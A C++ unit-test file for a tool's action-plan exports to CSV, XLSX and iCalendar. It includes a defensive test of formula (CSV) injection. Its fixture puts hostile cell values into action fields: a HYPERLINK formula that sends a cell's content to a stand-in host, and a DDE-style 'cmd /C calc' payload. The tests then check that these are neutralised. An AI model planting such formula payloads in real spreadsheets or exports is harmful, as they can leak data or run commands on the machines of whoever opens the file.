#include <catch2/catch.hpp>

#include "exports/demo_project.hpp"
#include "exports/csv_text.hpp"
#include "exports/plan/plan_files.hpp"
#include "tests/support/test_support.hpp"

#include <pugixml.hpp>

#include <algorithm>
#include <cstdio>
#include <map>
#include <memory>
#include <set>
#include <sstream>

using namespace assessa;
using namespace assessa::test;

namespace {

// One demo for every test here: writing it takes a while under the sanitizers.
Project& demo() {
    static TempDir dir;
    static std::unique_ptr<Project> p =
        write_demo_project(dir.file("demo.assessa"), FrameworkLibrary::load_default(), "lt");
    return *p;
}

Id plan_cycle() { return demo().current_cycle().id; }

std::string unzip(const std::string& archive, const std::string& member) {
    std::string text;
    const std::string command = "unzip -p '" + archive + "' '" + member + "'";
    std::unique_ptr<FILE, int (*)(FILE*)> pipe(popen(command.c_str(), "r"), pclose);
    REQUIRE(pipe);
    char buf[4096];
    for (std::size_t n; (n = fread(buf, 1, sizeof buf, pipe.get())) > 0;) text.append(buf, n);
    return text;
}

// A worksheet as rows of cell texts, shared strings resolved; numbers as written.
std::vector<std::vector<std::string>> read_sheet(const std::string& xlsx, int sheet) {
    pugi::xml_document strings_doc, sheet_doc;
    REQUIRE(strings_doc.load_string(unzip(xlsx, "xl/sharedStrings.xml").c_str()));
    REQUIRE(sheet_doc.load_string(unzip(xlsx, "xl/worksheets/sheet" + std::to_string(sheet) + ".xml").c_str()));
    std::vector<std::string> strings;
    for (auto si : strings_doc.child("sst").children("si")) strings.push_back(si.child("t").text().get());
    std::vector<std::vector<std::string>> rows;
    for (auto row : sheet_doc.child("worksheet").child("sheetData").children("row")) {
        std::vector<std::string> cells;
        for (auto c : row.children("c")) {
            const std::string v = c.child("v").text().get();
            cells.push_back(std::string(c.attribute("t").value()) == "s" ? strings.at(std::stoul(v)) : v);
        }
        rows.push_back(cells);
    }
    return rows;
}

// RFC 5545 content lines, unfolded, with the rule checks every line must pass.
std::vector<std::string> ics_lines(const std::string& text) {
    std::vector<std::string> lines;
    std::size_t pos = 0;
    while (pos < text.size()) {
        const auto end = text.find("\r\n", pos);
        REQUIRE(end != std::string::npos);  // every line ends with CRLF
        const std::string line = text.substr(pos, end - pos);
        CHECK(line.size() <= 75);
        if (!line.empty() && line[0] == ' ') {
            REQUIRE_FALSE(lines.empty());
            lines.back() += line.substr(1);
        } else {
            lines.push_back(line);
        }
        pos = end + 2;
    }
    return lines;
}

}  // namespace

TEST_CASE("The plan as CSV: one row per action, in the conventions of the language", "[plan][export]") {
    auto& p = demo();
    const auto actions = p.actions(plan_cycle());
    const std::string lt = plan_csv_text(p, plan_cycle(), Translator::for_language("lt"));
    REQUIRE(lt.rfind("\xEF\xBB\xBF", 0) == 0);
    std::istringstream in(lt.substr(3));
    std::vector<std::string> lines;
    for (std::string line; std::getline(in, line);) {
        REQUIRE(line.back() == '\r');
        lines.push_back(line.substr(0, line.size() - 1));
    }
    REQUIRE(lines.size() == actions.size() + 1);
    CHECK(lines[0].find(';') != std::string::npos);  // Lithuanian spreadsheets expect semicolons
    CHECK(lines[1].rfind("1;A-01;" + actions[0].title + ";", 0) == 0);
    CHECK(lines[1].find(";ADM;") != std::string::npos);
    CHECK(lines[1].find(";2027-02-01;2028-06-30;") != std::string::npos);

    const std::string en = plan_csv_text(p, plan_cycle(), Translator::for_language("en"));
    CHECK(en.find("Priority,Code,Title,Category,Impact,Feasibility,Leading department (V)") == 3);
    CHECK(en.find("\"FIN, ITC\"") != std::string::npos);  // a list holding the separator is quoted
}

TEST_CASE("The plan as XLSX: real dates and numbers, every action and milestone", "[plan][export][host-tools]") {
    TempDir d;
    auto& p = demo();
    const auto actions = p.actions(plan_cycle());
    const std::string file = d.file("actions.xlsx");
    write_plan_xlsx(p, plan_cycle(), file, Translator::for_language("en"));
    const auto rows = read_sheet(file, 1);
    REQUIRE(rows.size() == actions.size() + 1);
    CHECK(rows[0][0] == "Priority");
    CHECK(rows[0][9] == "Start");
    CHECK(rows[1][1] == "A-01");
    CHECK(rows[1][2] == actions[0].title);
    CHECK(rows[1][9] == "46419");  // 2027-02-01 as an Excel date
    CHECK(rows[1][10] == "46934");  // 2028-06-30
    CHECK(rows[2][12] == std::to_string(actions[1].progress));
    CHECK(unzip(file, "xl/workbook.xml").find("<sheet name=\"Milestones\"") != std::string::npos);
    std::size_t milestones = 0;
    for (const auto& a : actions) milestones += a.milestones.size();
    CHECK(read_sheet(file, 2).size() == milestones + 1);
}

TEST_CASE("The plan as iCalendar: due dates and milestones as all-day events", "[plan][export]") {
    auto& p = demo();
    const auto actions = p.actions(plan_cycle());
    const auto lines = ics_lines(plan_ics_text(p, plan_cycle(), Translator::for_language("lt"), "2026-11-23"));
    REQUIRE(lines.front() == "BEGIN:VCALENDAR");
    REQUIRE(lines.back() == "END:VCALENDAR");
    std::map<std::string, std::string> event;
    std::vector<std::map<std::string, std::string>> events;
    for (const auto& line : lines) {
        if (line == "BEGIN:VEVENT") event.clear();
        else if (line == "END:VEVENT") events.push_back(event);
        else event[line.substr(0, line.find(':'))] = line.substr(line.find(':') + 1);
    }
    std::size_t expected = 0;
    for (const auto& a : actions) expected += a.milestones.size() + 1;
    REQUIRE(events.size() == expected);
    std::set<std::string> uids;
    for (const auto& e : events) {
        CHECK(uids.insert(e.at("UID")).second);
        CHECK(e.at("DTSTAMP") == "20261123T000000Z");
        CHECK(e.at("DTSTART;VALUE=DATE").size() == 8);
    }
    const auto& a1 = actions[0];
    const auto due = std::find_if(events.begin(), events.end(), [&](const auto& e) {
        return e.at("SUMMARY").rfind(a1.code + " ", 0) == 0 && e.at("DTSTART;VALUE=DATE") == "20280630";
    });
    REQUIRE(due != events.end());
    CHECK(due->at("DTEND;VALUE=DATE") == "20280701");
    CHECK(due->at("CATEGORIES") == "ADM");
    CHECK(due->at("SUMMARY").find(a1.title) != std::string::npos);
}

TEST_CASE("A plan file that cannot be written is an io error and leaves no partial file", "[plan][export]") {
    TempDir d;
    const std::string file = d.file("missing-dir/actions.xlsx");
    try {
        write_plan_xlsx(demo(), plan_cycle(), file, Translator::for_language("en"));
        FAIL("the workbook was written");
    } catch (const ProjectError& e) {
        CHECK(e.kind() == ProjectError::Kind::io);
        CHECK(std::string(e.what()).rfind(file + ": cannot write the file", 0) == 0);
    }
    CHECK(plan_file_kind("x.XLSX") == PlanFileKind::xlsx);
    CHECK(plan_file_kind("x.ics") == PlanFileKind::ics);
    CHECK_FALSE(plan_file_kind("x.pdf"));
}

namespace {

// RFC 4180 fields of a CSV text (after the byte-order mark): quotes, doubled quotes and line
// breaks inside quotes, as a spreadsheet program reads them.
std::vector<std::vector<std::string>> read_csv(const std::string& text, char separator) {
    std::vector<std::vector<std::string>> rows(1);
    std::string field;
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') field += text[++i];
            else if (c == '"') quoted = false;
            else field += c;
        } else if (c == '"') {
            REQUIRE(field.empty());  // a quote only ever opens a field
            quoted = true;
        } else if (c == separator) {
            rows.back().push_back(field);
            field.clear();
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            rows.back().push_back(field);
            field.clear();
            rows.emplace_back();
            ++i;
        } else {
            REQUIRE(c != '\r');  // a bare carriage return outside quotes would start a row in some readers
            field += c;
        }
    }
    REQUIRE(field.empty());
    rows.pop_back();  // after the last CR LF
    return rows;
}

// A copy of the demo whose first actions have every text field beginning with one of the
// characters a spreadsheet program takes for the start of a formula.
struct HostilePlan {
    TempDir dir;
    std::unique_ptr<Project> project;
    Id cycle = 0;
    static inline const std::vector<std::string> starts = {"=", "+", "-", "@", "\t", "\r"};

    HostilePlan() {
        demo().save_copy(dir.file("hostile.assessa"));
        project = Project::open(dir.file("hostile.assessa"));
        cycle = project->current_cycle().id;
        auto actions = project->actions(cycle);
        REQUIRE(actions.size() >= starts.size());
        std::set<Id> renamed;
        for (std::size_t i = 0; i < starts.size(); ++i) {
            const std::string& s = starts[i];
            ImprovementAction a = actions[i];
            a.title = s + "HYPERLINK(\"http://example.test/?q=\"&A1,\"Click\") Core indicator set";
            a.description = s + "cmd|' /C calc'!A0 note";
            a.expected_result = s + "1+1 result";
            a.responsible = s + "Ona Petraitienė";
            a.indicator = s + "SUM(A1:A9)";
            a.target = s + "10";
            a.effort = s + "20 person-days";
            a.cost = s + "3 000 EUR";
            if (!a.milestones.empty()) a.milestones[0].title = s + "milestone";
            project->update_action(a);
            if (a.lead_department && s != "\t" && s != "\r" && renamed.insert(*a.lead_department).second) {
                // (codes are trimmed when stored)
                const auto departments = project->departments();
                Department d = *std::find_if(departments.begin(), departments.end(),
                                             [&](const Department& x) { return x.id == *a.lead_department; });
                d.code = s + d.code;
                d.name = s + d.name;
                project->update_department(d);
            }
        }
    }
};

}  // namespace

TEST_CASE("CSV cells that a spreadsheet would run as formulas are written as text, in every language",
          "[plan][export]") {
    HostilePlan h;
    const auto actions = h.project->actions(h.cycle);
    std::map<Id, std::string> codes;
    for (const auto& d : h.project->departments()) codes[d.id] = d.code;
    CHECK(std::count_if(codes.begin(), codes.end(), [](const auto& c) { return c.second[0] == '='; }) == 1);
    for (const std::string lang : {"en", "lt", "zh"}) {
        const Translator t = Translator::for_language(lang);
        const char separator = lang == "lt" ? ';' : ',';
        const std::string text = plan_csv_text(*h.project, h.cycle, t);
        const auto rows = read_csv(text.substr(3), separator);
        REQUIRE(rows.size() == actions.size() + 1);
        const auto& header = rows[0];
        const auto column = [&](const std::string& heading) {
            const auto it = std::find(header.begin(), header.end(), std::string(t.tr(heading.c_str())));
            REQUIRE(it != header.end());
            return static_cast<std::size_t>(it - header.begin());
        };
        for (std::size_t i = 0; i < HostilePlan::starts.size(); ++i) {
            INFO(lang << " action " << i);
            const auto& row = rows.at(i + 1);
            const ImprovementAction& a = actions[i];
            const std::string s = HostilePlan::starts[i];
            // Each text cell reads back as the text, with the apostrophe that makes it text.
            CHECK(row.at(column("Title")) == "'" + a.title);
            CHECK(row.at(column("Responsible")) == "'" + a.responsible);
            CHECK(row.at(column("Indicator")) == "'" + a.indicator);
            CHECK(row.at(column("Target")) == "'" + a.target);
            CHECK(row.at(column("Effort")) == "'" + a.effort);
            CHECK(row.at(column("Cost")) == "'" + a.cost);
            CHECK(row.at(column("Expected result")) == "'" + a.expected_result);
            CHECK(row.at(column("Description")) == "'" + a.description);
            // The milestones cell begins with a date, so nothing in it can start a formula.
            if (!a.milestones.empty())
                CHECK(row.at(column("Milestones")) ==
                      neutralised_csv_text(a.milestones[0].due_on + " " + s + "milestone") +
                          row.at(column("Milestones")).substr(a.milestones[0].due_on.size() + 1 + s.size() + 9));
            if (a.lead_department) {
                CHECK(row.at(column("Leading department (V)")) == neutralised_csv_text(codes.at(*a.lead_department)));
            }
            // Numbers and dates stay numbers and dates.
            CHECK(row.at(column("Priority")) == std::to_string(i + 1));
            CHECK(row.at(column("Impact")) == std::to_string(a.impact));
            CHECK(row.at(column("Progress %")) == std::to_string(a.progress));
            CHECK(row.at(column("Start")) == a.starts_on);
            CHECK(row.at(column("Due")) == a.due_on);
        }
        // No cell at all begins with a formula character.
        for (const auto& row : rows)
            for (const auto& cell : row)
                CHECK((cell.empty() || std::string("=+@\t\r").find(cell[0]) == std::string::npos));
    }
}

TEST_CASE("XLSX text is always a string cell, never a formula", "[plan][export][host-tools]") {
    HostilePlan h;
    const auto actions = h.project->actions(h.cycle);
    const std::string file = h.dir.file("actions.xlsx");
    write_plan_xlsx(*h.project, h.cycle, file, Translator::for_language("en"));
    for (const char* sheet : {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"}) {
        const std::string xml = unzip(file, sheet);
        REQUIRE(xml.find("<sheetData") != std::string::npos);
        CHECK(xml.find("<f>") == std::string::npos);
        CHECK(xml.find("<f ") == std::string::npos);
    }
    const auto rows = read_sheet(file, 1);
    CHECK(rows.at(1).at(2) == actions[0].title);  // as typed, a shared string
}
